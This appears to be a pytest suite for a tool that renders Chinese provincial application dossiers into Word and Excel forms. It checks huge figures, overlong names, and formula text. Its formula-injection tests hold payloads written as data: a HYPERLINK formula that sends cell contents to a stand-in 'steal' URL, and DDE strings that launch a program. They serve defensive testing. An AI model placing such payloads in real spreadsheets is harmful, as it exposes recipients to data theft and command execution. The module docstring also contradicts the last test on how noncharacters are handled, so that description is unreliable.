"""Hostile dossiers through `zx render-forms`: huge figures, huge names, formula text.

The render family of the corpus. Each case is a copy of the sample campaign with one
dossier (or two) edited, rendered by the real CLI:

- R1: finite figures of any size format (1e300, 10^29, the largest double, a growth over a
  base of 5e-324) in the 申报书, both 推荐表 and the 汇总表; none stops the run.
- R2: a province or city name of hundreds of characters gives file names that fit the file
  system (stems of at most 200 bytes, still unique); an output that cannot be written at
  all (a folder name over 255 bytes) is the coded ZX904, not an OSError.
- R3: a title of more than 255 characters is cut in the document properties.
- R4: text that a spreadsheet would take for a formula (=HYPERLINK(…), +…, -…, @…) stays
  text in 推荐表.xlsx and the 汇总表, even in a dossier that passes `zx validate`.
- Characters XML cannot hold (U+FFFE, U+FFFF) that pass `zx validate` are dropped from the
  forms rather than stopping the run.
"""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pytest
from hostile import (
    EXIT_OK,
    EXIT_USAGE,
    SUZHOU,
    Run,
    copy_campaign,
    replace_text,
    zx,
)

DOSSIER = f"dossiers/{SUZHOU}"
APPLICATION = f"{DOSSIER}/application.yaml"
RECOMMENDATION = f"{DOSSIER}/recommendation.yaml"
META = f"{DOSSIER}/dossier.yaml"
MAX_STEM_BYTES = 200  # zxcli.render.writer.MAX_STEM_BYTES
SUFFIXES = ("-申报书.docx", "-推荐表.docx", "-推荐表.xlsx")


def render(*args: str | Path, cwd: Path | None = None) -> Run:
    return zx("render-forms", *args, cwd=cwd)


def campaign_with(tmp_path: Path, *edits: tuple[str, str, str]) -> Path:
    """A copy of the sample campaign with (file, old, new) replacements made."""
    campaign = copy_campaign(tmp_path / "2025")
    for file, old, new in edits:
        replace_text(campaign / file, old, new)
    return campaign


def docx_text(path: Path) -> str:
    """Every text of a .docx (body, headers, tables) as one string, tags removed."""
    import re

    with zipfile.ZipFile(path) as archive:
        xml = "".join(
            archive.read(n).decode("utf-8")
            for n in archive.namelist()
            if n.startswith("word/") and n.endswith(".xml")
        )
    return re.sub(r"<[^>]+>", "", xml)


def written(out: Path) -> list[Path]:
    return sorted(p for p in out.iterdir() if p.is_file())


def assert_validates(campaign: Path) -> None:
    run = zx("validate", campaign / DOSSIER)
    assert run.code == EXIT_OK, run.both[-3000:]


# ---------------------------------------------------------------------- R1: huge figures

# (file, YAML text replaced, its replacement, a pattern the 申报书 must then show or "")
HUGE = {
    "value-added-1e300": (
        APPLICATION,
        "industrial_value_added_yi: 10850.0",
        "industrial_value_added_yi: 1e300",
        "1" + "0" * 300 + r"\.00亿元",
    ),
    "value-added-10^29": (
        APPLICATION,
        "industrial_value_added_yi: 10850.0",
        "industrial_value_added_yi: 100000000000000000000000000000",
        "1" + "0" * 29 + r"\.00亿元",
    ),
    "value-added-max-double": (
        APPLICATION,
        "industrial_value_added_yi: 10850.0",
        "industrial_value_added_yi: 1.7976931348623157e308",
        "17976931348623157" + "0" * 292 + r"\.00亿元",
    ),
    "investment-1e300": (
        APPLICATION,
        "current: 2150.0",
        "current: 1.0e300",
        "1" + "0" * 300 + r"\.00亿元",
    ),
    # 2150 / 5e-324: a growth of some 4.3e328 %, every digit of it printed.
    "growth-over-5e-324": (APPLICATION, "previous: 2010.0", "previous: 5e-324", r"[0-9]{329}\.00%"),
    "growth-over-4.9e-324": (APPLICATION, "previous: 1130.0", "previous: 4.9e-324", ""),
    "summary-indicator-1e300": (
        RECOMMENDATION,
        "industrial_value_added_yi: 10850.0",
        "industrial_value_added_yi: 1e300",
        "",
    ),
}


@pytest.mark.parametrize("case", list(HUGE))
def test_any_finite_figure_renders(tmp_path: Path, case: str) -> None:
    import re

    file, old, new, shown = HUGE[case]
    campaign = campaign_with(tmp_path, (file, old, new))
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, "--out", out, "--draft")
    assert run.code == EXIT_OK, run.both[-3000:]
    assert [p.name.removeprefix("2024-江苏省-苏州市") for p in written(out)] == sorted(SUFFIXES)
    if shown:
        assert re.search(shown, docx_text(out / "2024-江苏省-苏州市-申报书.docx"))
    summary = render(campaign, "--summary", "--out", tmp_path / "summary")
    assert summary.code == EXIT_OK, summary.both[-3000:]


def test_huge_figure_is_refused_without_draft(tmp_path: Path) -> None:
    # Amounts above 1,000,000 亿元 (more than China's GDP) are a unit slip: the schema says so
    # (ZX025), so the forms are refused unless --draft, which the test above renders.
    campaign = campaign_with(
        tmp_path,
        (APPLICATION, "industrial_value_added_yi: 10850.0", "industrial_value_added_yi: 1e300"),
    )
    run = render(campaign / DOSSIER, "--out", tmp_path / "out")
    assert run.code == 1 and "ZX801" in run.both and "ZX025" in run.both, run.both[-3000:]
    assert not (tmp_path / "out").exists() or written(tmp_path / "out") == []


def test_huge_growth_is_a_number_or_a_dash_in_the_summary(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    # 2150 / 5e-324 × 100 ≈ 4.3e328: beyond a double, so the 汇总表 cannot hold it as one.
    campaign = campaign_with(tmp_path, (APPLICATION, "previous: 2010.0", "previous: 5e-324"))
    run = render(campaign, "--summary", "--out", tmp_path / "out")
    assert run.code == EXIT_OK, run.both[-3000:]
    (path,) = written(tmp_path / "out")
    sheet = load_workbook(path).active
    header = [c.value.replace("\n", "") for c in sheet[2]]  # headers break before units
    column = header.index("工业投资增速（%）") + 1
    values = [sheet.cell(r, column).value for r in range(3, sheet.max_row + 1)]
    assert "—" in values
    assert all(v == "—" or isinstance(v, (int, float)) for v in values if v is not None)


# ---------------------------------------------------------------------- R2: long names


def assert_names_fit(out: Path) -> None:
    for path in written(out):
        assert len(path.name.encode("utf-8")) <= 255, path.name
        stem = next(
            path.name.removesuffix(s) for s in (*SUFFIXES, "-汇总表.xlsx") if path.name.endswith(s)
        )
        assert len(stem.encode("utf-8")) <= MAX_STEM_BYTES, path.name
        assert "\ufffd" not in path.name  # cut at a character, not inside one


@pytest.mark.parametrize("field", ["province", "city"])
def test_long_names_give_file_names_that_fit(tmp_path: Path, field: str) -> None:
    long = "很长的名称" * 60  # 300 characters, 900 bytes
    old, new = (
        ("province: 江苏省", f"province: 江苏省{long}")
        if field == "province"
        else ("  name: 苏州市", f"  name: 苏州市{long}")
    )
    campaign = campaign_with(tmp_path, (META, old, new))
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, "--out", out, "--draft")
    assert run.code == EXIT_OK, run.both[-3000:]
    assert len(written(out)) == 3
    assert_names_fit(out)
    again = render(campaign / DOSSIER, "--out", out, "--draft", "--force")
    assert again.code == EXIT_OK, again.both[-3000:]


def test_names_cut_to_the_same_stem_stay_apart(tmp_path: Path) -> None:
    campaign = copy_campaign(tmp_path / "2025")
    long = "很长的名称" * 60
    second = campaign / "dossiers" / "江苏省-苏州市-副本"
    import shutil

    shutil.copytree(campaign / DOSSIER, second)
    replace_text(campaign / META, "province: 江苏省", f"province: 江苏省{long}甲")
    replace_text(second / "dossier.yaml", "province: 江苏省", f"province: 江苏省{long}乙")
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, second, "--out", out, "--draft")
    assert run.code == EXIT_OK, run.both[-3000:]
    names = [p.name for p in written(out)]
    assert len(names) == len(set(names)) == 6
    assert_names_fit(out)


def test_long_province_in_the_summary_name(tmp_path: Path) -> None:
    campaign = copy_campaign(tmp_path / "2025")
    for dossier in (campaign / "dossiers").iterdir():
        meta = dossier / "dossier.yaml"
        text = meta.read_text(encoding="utf-8")
        province = next(line for line in text.splitlines() if line.startswith("province:"))
        meta.write_text(text.replace(province, "province: " + "很长的省" * 80), "utf-8")
    run = render(campaign, "--summary", "--out", tmp_path / "out")
    assert run.code == EXIT_OK, run.both[-3000:]
    (path,) = written(tmp_path / "out")
    assert len(path.name.encode("utf-8")) <= 255


@pytest.mark.parametrize("extra", [[], ["--force"], ["--summary"]])
def test_an_output_folder_name_too_long_is_zx904(tmp_path: Path, extra: list[str]) -> None:
    campaign = copy_campaign(tmp_path / "2025")
    out = tmp_path / ("x" * 300)  # one name over 255 bytes: ENAMETOOLONG
    target = campaign if "--summary" in extra else campaign / DOSSIER
    run = render(target, "--out", out, *extra)
    assert run.code == EXIT_USAGE, run.both[-3000:]
    assert "ZX904" in run.err
    assert not any(p.name.startswith("xxx") for p in tmp_path.iterdir())  # nothing written


@pytest.mark.skipif(
    os.name != "posix" or os.geteuid() == 0,
    reason="needs a folder that a non-root user cannot write",
)
def test_an_output_folder_without_permission_is_zx904(tmp_path: Path) -> None:
    campaign = copy_campaign(tmp_path / "2025")
    out = tmp_path / "locked"
    out.mkdir()
    out.chmod(0o500)
    try:
        run = render(campaign / DOSSIER, "--out", out)
    finally:
        out.chmod(0o700)
    assert run.code == EXIT_USAGE and "ZX904" in run.err, run.both[-3000:]


# ---------------------------------------------------------------------- R3: long titles


def test_a_title_over_255_characters_is_cut_in_the_properties(tmp_path: Path) -> None:
    from docx import Document
    from openpyxl import load_workbook

    long = "很长的名称" * 60
    campaign = campaign_with(tmp_path, (META, "  name: 苏州市", f"  name: 苏州市{long}"))
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, "--out", out, "--draft")
    assert run.code == EXIT_OK, run.both[-3000:]
    for path in written(out):
        if path.suffix == ".docx":
            title = Document(str(path)).core_properties.title
        else:
            title = load_workbook(path).properties.title
        # The gazetteer's name is printed, never the dossier's spelling (issue 12 family 2),
        # so the long name cannot reach the title at all; the cap still holds.
        assert len(title) <= 255 and title.startswith("2024年度苏州市"), path.name
        assert "很长" not in title, path.name


def test_a_long_recommender_name_is_cut_in_the_author(tmp_path: Path) -> None:
    from docx import Document

    campaign = campaign_with(
        tmp_path,
        (META, "  name: 江苏省工业和信息化厅", "  name: 江苏省工业和信息化厅" + "很长" * 200),
    )
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, "--out", out, "--draft")
    assert run.code == EXIT_OK, run.both[-3000:]
    author = Document(str(out / "2024-江苏省-苏州市-申报书.docx")).core_properties.author
    assert author.startswith("江苏省工业和信息化厅很长") and len(author) == 255


# ---------------------------------------------------------------------- R4: formulas

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://example.com/steal?d="&A1,"点击查看详情")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def yaml_quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar, with escapes for what a file must not hold."""
    escaped = (
        text.replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\t", "\\t")
        .replace("\r", "\\r")
        .replace("\ufffe", "\\uFFFE")
        .replace("\uffff", "\\uFFFF")
    )
    return f'"{escaped}"'


def no_formula_anywhere(path: Path) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def cell_holding(path: Path, needle: str) -> tuple[object, str]:
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and needle in cell.value:
                return cell.value, cell.data_type
    raise AssertionError(f"{needle!r} not in {path.name}")


def set_highlights(path: Path, text: str) -> None:
    """recommendation.yaml's highlights (a folded block in the sample) set to `text`."""
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.startswith("highlights:"))
    end = next(i for i in range(start + 1, len(lines)) if not lines[i].startswith("  "))
    lines[start:end] = [f"highlights: {yaml_quoted(text)}\n"]
    path.write_text("".join(lines), encoding="utf-8")


@pytest.mark.parametrize("case", list(FORMULAS))
def test_formula_text_in_highlights_stays_text(tmp_path: Path, case: str) -> None:
    text = FORMULAS[case]
    shown = text.strip()  # the forms show text without surrounding white space
    campaign = copy_campaign(tmp_path / "2025")
    set_highlights(campaign / RECOMMENDATION, text)
    assert_validates(campaign)
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, "--out", out)  # validate-clean: no --draft
    assert run.code == EXIT_OK, run.both[-3000:]
    form = out / "2024-江苏省-苏州市-推荐表.xlsx"
    value, data_type = cell_holding(form, shown[1:12])
    assert value == shown and data_type == "s"
    no_formula_anywhere(form)


def test_formula_text_stays_text_in_the_summary(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    formula = FORMULAS["hyperlink"]
    campaign = copy_campaign(tmp_path / "2025")
    replace_text(
        campaign / APPLICATION, "    - name: 笔记本电脑", f"    - name: {yaml_quoted(formula)}"
    )
    set_highlights(campaign / RECOMMENDATION, formula)
    out = tmp_path / "out"
    forms = render(campaign / DOSSIER, "--out", out, "--draft")
    assert forms.code == EXIT_OK, forms.both[-3000:]
    summary = render(campaign, "--summary", "--out", out)
    assert summary.code == EXIT_OK, summary.both[-3000:]
    for path in written(out):
        if path.suffix == ".xlsx":
            no_formula_anywhere(path)
    (table,) = [p for p in written(out) if p.name.endswith("汇总表.xlsx")]
    sheet = load_workbook(table).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


def test_formula_text_in_a_validated_summary(tmp_path: Path) -> None:
    """The 汇总表 of a campaign whose dossier passes validation, with a product named so."""
    formula = '=HYPERLINK("http://example.com","x")'
    campaign = copy_campaign(tmp_path / "2025")
    replace_text(
        campaign / APPLICATION, "    - name: 笔记本电脑", f"    - name: {yaml_quoted(formula)}"
    )
    assert_validates(campaign)
    out = tmp_path / "out"
    run = render(campaign, "--summary", "--out", out)
    assert run.code == EXIT_OK, run.both[-3000:]
    (table,) = written(out)
    no_formula_anywhere(table)


# ---------------------------------------------------------------------- characters XML lacks


def test_noncharacters_are_refused_before_any_form_is_made(tmp_path: Path) -> None:
    """U+FFFE and U+FFFF, written as YAML escapes, are refused by the loader (ZX009), so
    render-forms refuses the dossier (ZX801) instead of writing a file Office cannot open."""
    campaign = copy_campaign(tmp_path / "2025")
    set_highlights(campaign / RECOMMENDATION, "苏州\ufffe制造\uffff很强")
    out = tmp_path / "out"
    run = render(campaign / DOSSIER, "--out", out)
    assert run.code == 1, run.both[-3000:]
    assert "ZX801" in run.both and "ZX009" in run.both
    assert not out.exists() or not any(out.iterdir())
